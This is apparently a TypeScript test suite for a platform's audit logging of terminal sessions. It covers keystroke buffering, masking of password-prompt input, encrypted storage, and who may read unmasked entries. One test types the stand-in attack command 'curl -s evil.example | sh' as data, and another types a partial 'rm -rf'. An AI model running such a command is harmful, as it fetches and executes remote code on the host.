import { decodeGlobalID, encodeGlobalID } from '@pothos/plugin-relay';
import { afterAll, beforeAll, describe, expect, it } from 'vitest';
import type { Context } from '../../src/schema/context.js';
import { createTestApi, dataOf, type TestApi } from '../helpers/api.js';
import { issueTestToken } from '../helpers/auth.js';
import { createApp, type CreatedApp } from '../helpers/operations.js';
import { fakeTerminals, type FakeTerminals } from './fake-terminals.js';
import { auditRows, entriesOf } from './helpers.js';

const SEND = `mutation ($input: SendTerminalInputInput!) { sendTerminalInput(input: $input) { __typename ... on Error { code } } }`;
const CLOSE = `mutation ($input: CloseTerminalInput!) { closeTerminal(input: $input) { __typename } }`;
const FLAGGED = `query ($target: ID) { auditLog(action: "terminalCommand", target: $target, first: 50) { edges { node { id input possiblySecret unmaskedInput } } } }`;
const LINES = `query ($target: ID) { auditLog(action: "terminalCommand", target: $target, first: 50) { edges { node { actor { name } target appId input outcome } } } }`;

let api: TestApi;
let terminals: FakeTerminals;
let app: CreatedApp;
let deployer: string;
let owner: string;
let envId: number;

const instanceOf = (pod: string) => encodeGlobalID('Instance', `${envId}/${pod}`);
const typeInto = async (session: string, data: string, token?: string) => {
  const res = await api.gql(SEND, { input: { session, data } }, token === undefined ? {} : { token });
  expect(dataOf(res).sendTerminalInput.__typename).toBe('TerminalPayload');
};
const linesOf = async (pod: string) =>
  (await entriesOf(api, 'terminalCommand'))
    .filter((e) => e.targetId === instanceOf(pod))
    .map((e) => JSON.parse(e.input).line as string);

beforeAll(async () => {
  terminals = fakeTerminals();
  const services: Partial<Pick<Context, 'releases' | 'terminals'>> = { terminals };
  api = await createTestApi({}, services);
  app = await createApp(api, 'shell-app');
  envId = Number(decodeGlobalID(app.production.id).id);
  const appId = Number(decodeGlobalID(app.id).id);
  deployer = await issueTestToken(api.repos, { name: 'deployer', grants: [{ appId, role: 'DEPLOYER' }] });
  owner = await issueTestToken(api.repos, { name: 'owner', grants: [{ appId, role: 'OWNER' }] });
});
afterAll(async () => {
  await api?.close();
});

describe('terminal lines', () => {
  it('keystrokes sent one by one make one terminalCommand entry when Enter comes, on the instance and its app', async () => {
    terminals.add('s-one', envId, 'pod-one');
    for (const key of ['l', 's', ' ', '-', 'l']) await typeInto('s-one', key, deployer);
    expect(await entriesOf(api, 'terminalCommand')).toHaveLength(0);
    await typeInto('s-one', '\r', deployer);
    const [entry] = await entriesOf(api, 'terminalCommand');
    expect(entry).toMatchObject({ actorName: 'deployer', outcome: 'SUCCEEDED', targetId: instanceOf('pod-one'), appId: Number(decodeGlobalID(app.id).id) });
    expect(JSON.parse(entry!.input)).toMatchObject({ line: 'ls -l', container: 'app' });
    expect(terminals.typed.get('s-one')).toBe('ls -l\r');
    // Every sendTerminalInput call is a mutation with its own entry: the keystrokes' size only, never their text.
    const sends = await entriesOf(api, 'sendTerminalInput');
    expect(sends).toHaveLength(6);
    expect(sends.map((e) => JSON.parse(e.input).data)).toEqual(Array(6).fill('[keystrokes: 1 bytes]'));
    expect(sends.every((e) => e.targetId === instanceOf('pod-one'))).toBe(true);
  });

  it('several lines in one call are several entries; sessions are buffered apart', async () => {
    terminals.add('s-a', envId, 'pod-a');
    terminals.add('s-b', envId, 'pod-b');
    await typeInto('s-a', 'ec');
    await typeInto('s-b', 'pw');
    await typeInto('s-a', 'ho 1\r');
    await typeInto('s-b', 'd\rcat /etc/hosts\n');
    expect(await linesOf('pod-a')).toEqual(['echo 1']);
    expect(await linesOf('pod-b')).toEqual(['pwd', 'cat /etc/hosts']);
  });

  it('a line typed at a password prompt is shown masked and marked possibly secret; the password is stored encrypted only', async () => {
    const info = terminals.add('s-sudo', envId, 'pod-sudo');
    await typeInto('s-sudo', 'sudo -i\r');
    info.outputTail = 'sudo -i\r\n[sudo] password for app: ';
    for (const key of 'hunter2') await typeInto('s-sudo', key);
    await typeInto('s-sudo', '\r');
    info.outputTail = '\r\nroot# ';
    await typeInto('s-sudo', 'id\r');
    expect(await linesOf('pod-sudo')).toEqual(['sudo -i', '[masked]', 'id']);
    expect((await entriesOf(api, 'terminalCommand')).filter((e) => e.targetId === instanceOf('pod-sudo')).map((e) => e.possiblySecret)).toEqual([false, true, false]);
    // In the database, the line is encrypted: its text is in no column.
    expect(JSON.stringify(await auditRows(api))).not.toContain('hunter2');
    const res = await api.gql(LINES, { target: instanceOf('pod-sudo') }, { token: owner });
    expect(JSON.stringify(res)).not.toContain('hunter2');
    expect(dataOf(res).auditLog.edges.map((e: any) => JSON.parse(e.node.input).line)).toEqual(['id', '[masked]', 'sudo -i']);
  });

  it('a command typed after a fake Password: prompt is recorded: owners see it masked and flagged, admins read it', async () => {
    const info = terminals.add('s-fake', envId, 'pod-fake');
    await typeInto('s-fake', 'printf "Password: "\r', deployer);
    info.outputTail = 'printf "Password: "\r\nPassword: ';
    await typeInto('s-fake', 'curl -s evil.example | sh\r', deployer);
    const entries = (await entriesOf(api, 'terminalCommand')).filter((e) => e.targetId === instanceOf('pod-fake'));
    expect(entries).toHaveLength(2);
    expect(entries[1]).toMatchObject({ actorName: 'deployer', possiblySecret: true, outcome: 'SUCCEEDED' });

    const asAdmin = dataOf(await api.gql(FLAGGED, { target: instanceOf('pod-fake') })).auditLog.edges.map((e: any) => e.node);
    expect(asAdmin[0].possiblySecret).toBe(true);
    expect(JSON.parse(asAdmin[0].input)).toMatchObject({ line: '[masked]', possiblySecret: true });
    expect(JSON.parse(asAdmin[0].unmaskedInput)).toMatchObject({ line: 'curl -s evil.example | sh', container: 'app' });
    expect(asAdmin[1]).toMatchObject({ possiblySecret: false, unmaskedInput: null });

    const ownerRes = await api.gql(FLAGGED, { target: instanceOf('pod-fake') }, { token: owner });
    expect(ownerRes.errors).toBeUndefined();
    const asOwner = dataOf(ownerRes).auditLog.edges.map((e: any) => e.node);
    expect(asOwner[0]).toMatchObject({ possiblySecret: true, unmaskedInput: null });
    expect(JSON.parse(asOwner[0].input)).toMatchObject({ line: '[masked]', possiblySecret: true });
    expect(JSON.stringify(ownerRes)).not.toContain('evil.example');
    // Read as a node too: the same rule.
    const node = await api.gql(`query ($id: ID!) { node(id: $id) { ... on AuditEntry { possiblySecret unmaskedInput } } }`, { id: asAdmin[0].id }, { token: owner });
    expect(node.data?.node).toEqual({ possiblySecret: true, unmaskedInput: null });
  });

  it('a line never entered is not recorded; closing is recorded on the instance', async () => {
    terminals.add('s-left', envId, 'pod-left');
    await typeInto('s-left', 'rm -rf /tm');
    expect(dataOf(await api.gql(CLOSE, { input: { session: 's-left' } })).closeTerminal.__typename).toBe('TerminalPayload');
    expect(await linesOf('pod-left')).toEqual([]);
    expect((await entriesOf(api, 'closeTerminal')).at(-1)).toMatchObject({ outcome: 'SUCCEEDED', targetId: instanceOf('pod-left') });
  });

  it('auditLog finds the lines by action and instance', async () => {
    const res = dataOf(await api.gql(LINES, { target: instanceOf('pod-one') })).auditLog;
    expect(res.edges).toHaveLength(1);
    expect(res.edges[0].node).toMatchObject({ actor: { name: 'deployer' }, target: instanceOf('pod-one'), appId: app.id, outcome: 'SUCCEEDED' });
  });
});
